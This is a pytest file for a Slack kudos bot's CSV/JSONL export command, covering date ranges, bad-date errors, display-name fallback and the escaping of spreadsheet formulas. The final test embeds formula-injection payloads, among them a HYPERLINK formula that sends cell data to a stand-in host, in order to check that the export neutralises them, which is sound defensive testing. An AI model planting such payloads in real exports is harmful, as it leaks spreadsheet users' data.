"""`askaround export kudos`: the ledger as CSV or JSON lines, for a date range, from the
database in ASKAROUND_DATABASE_URL; bad dates fail with one line and a non-zero exit."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.clock import Clock
from bot.kudos.records import Giving
from bot.kudos.service import KudosService
from bot.people import PeopleService
from bot.profile import Profile
from bot.runtime.cli import main
from storage.models import Kudos

ANA, BEN = Profile("U1", "ana", "Ana Silva"), Profile("U2", "ben", "Ben Ode")


@pytest.fixture
async def ledger(
    sessions: async_sessionmaker[AsyncSession],
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    """Three kudos on three days (one undone, one private), and the CLI pointed at them."""
    people = PeopleService(sessions)
    for person in (ANA, BEN):
        await people.remember("T1", person)
    clock = Clock()
    kudos = KudosService(sessions, clock.now)
    for day, key, private in ((5, "a", False), (6, "b", True), (7, "c", False)):
        clock.freeze(datetime(2026, 1, day, 9, tzinfo=UTC))
        await kudos.give(
            Giving(
                team_id="T1",
                giver=ANA,
                recipients=(BEN,),
                reason=f"reason {key}, with a comma",
                key=key,
                source="command",
                tags=("craft", "teamwork"),
                is_private=private,
            )
        )
    await kudos.undo("T1", "U1", "c")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("ASKAROUND_DATABASE_URL", database_url)
    monkeypatch.setenv("SLACK_BOT_TOKEN", "xoxb-export")
    monkeypatch.setenv("SLACK_SIGNING_SECRET", "secret")


def _run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = main(args)
    out, err = capsys.readouterr()
    return code, out, err


async def _export(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """main() runs its own event loop, so from a test's loop it runs in a thread."""
    return await asyncio.to_thread(_run, ["export", "kudos", *args], capsys)


@pytest.mark.usefixtures("ledger")
async def test_csv_export_of_a_range(
    capsys: pytest.CaptureFixture[str], sessions: async_sessionmaker[AsyncSession]
) -> None:
    """Live entries from --since to --until (inclusive), private included, undone left out."""
    code, out, err = await _export(["--since", "2026-01-01", "--until", "2026-01-06"], capsys)
    assert code == 0 and "exported 2 kudos" in err
    assert out.startswith("\ufeff")  # Excel's mark of UTF-8: a script reads it as utf-8-sig
    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"))))
    assert [r["message"] for r in rows] == ["reason a, with a comma", "reason b, with a comma"]
    assert rows[0]["giver_name"] == "Ana Silva" and rows[0]["receiver_name"] == "Ben Ode"
    assert rows[0]["values"] == "craft;teamwork"
    assert [r["is_private"] for r in rows] == ["False", "True"]
    async with sessions() as s:  # each row's entry, as `askaround kudos take-back` takes it
        ids = list(await s.scalars(select(Kudos.id).where(Kudos.batch_key.in_(["a", "b"]))))
    assert [r["kudos_id"] for r in rows] == [str(i) for i in sorted(ids)]
    # The moment with its offset: UTC, whoever reads it and wherever.
    assert [r["created_at"] for r in rows] == [
        "2026-01-05T09:00:00+00:00",
        "2026-01-06T09:00:00+00:00",
    ]


@pytest.mark.usefixtures("ledger")
async def test_jsonl_export_and_since_alone(capsys: pytest.CaptureFixture[str]) -> None:
    """JSON lines keep values as a list; without --until the range runs to now."""
    code, out, _err = await _export(["--since", "2026-01-06", "--format", "jsonl"], capsys)
    lines = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and len(lines) == 1
    assert lines[0]["values"] == ["craft", "teamwork"] and lines[0]["created_at"].startswith(
        "2026-01-06T09:00:00"
    )


@pytest.mark.parametrize(
    "args",
    [
        ["--since", "2026-13-01"],
        ["--since", "yesterday"],
        ["--since", "2026-01-02", "--until", "2026-02-30"],
        ["--since", "2026-02-01", "--until", "2026-01-01"],
    ],
)
def test_bad_dates_fail_with_one_line(args: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    """An impossible or reversed date is one line on stderr and a non-zero exit."""
    code, out, err = _run(["export", "kudos", *args], capsys)
    assert code != 0 and out == ""
    assert len(err.strip().splitlines()) == 1 and err.startswith("askaround: --")


@pytest.mark.usefixtures("ledger")
async def test_until_the_last_day_of_the_calendar_exports_everything_since(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """`--until 9999-12-31` (for "no end") is a day with no day after it: the export stopped
    with "unexpected OverflowError"."""
    code, out, err = await _export(["--since", "2026-01-06", "--until", "9999-12-31"], capsys)
    assert code == 0 and "exported 1 kudos" in err, err
    assert "reason b" in out


@pytest.mark.usefixtures("ledger")
async def test_someone_slack_gives_no_real_name_is_named_by_their_handle(
    capsys: pytest.CaptureFixture[str], sessions: async_sessionmaker[AsyncSession]
) -> None:
    """Cy's Slack profile has a handle and no real name: the bot names them `cy` in
    leaderboards and digests (`storage.people.display_names`), and the export's giver_name
    was empty, as if nobody gave it."""
    cy = Profile("U3", "cy")
    await PeopleService(sessions).remember("T1", cy)
    clock = Clock()
    clock.freeze(datetime(2026, 1, 5, 10, tzinfo=UTC))
    given = Giving("T1", cy, (BEN,), "the release notes", "d", "command")
    await KudosService(sessions, clock.now).give(given)
    code, out, _err = await _export(["--since", "2026-01-05", "--until", "2026-01-05"], capsys)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and [(r["giver_name"], r["receiver_name"]) for r in rows] == [
        ("Ana Silva", "Ben Ode"),
        ("cy", "Ben Ode"),
    ]


@pytest.mark.usefixtures("ledger")
async def test_a_formula_after_a_semicolon_opens_as_text_where_excel_splits_there(
    capsys: pytest.CaptureFixture[str], sessions: async_sessionmaker[AsyncSession]
) -> None:
    """Excel where the list separator is `;` (German, French…) opens a .csv split at `;`,
    and LibreOffice with `;` or tab ticked: a reason typed `nice;=1+1;` made a cell `=1+1`
    there, run as a formula, behind the `'` only the cell's start had. A winking `;-)`
    stays as typed."""
    clock = Clock()
    clock.freeze(datetime(2026, 1, 8, 9, tzinfo=UTC))
    kudos = KudosService(sessions, clock.now)
    reasons = ('nice;=HYPERLINK("http://x.example/?"&A1;"hi");', "ok; @SUM(A1)\t-A1+1 ;-)")
    for key, reason in enumerate(reasons):
        await kudos.give(Giving("T1", ANA, (BEN,), reason, f"f{key}", "command"))
    code, out, _err = await _export(["--since", "2026-01-08"], capsys)
    messages = [r["message"] for r in csv.DictReader(io.StringIO(out))]
    assert code == 0 and messages == [
        'nice;\'=HYPERLINK("http://x.example/?"&A1;"hi");',
        "ok;' @SUM(A1)\t'-A1+1 ;-)",
    ]
    for delimiter in (";", "\t"):
        cells = [c for row in csv.reader(io.StringIO(out), delimiter=delimiter) for c in row]
        assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@"))]
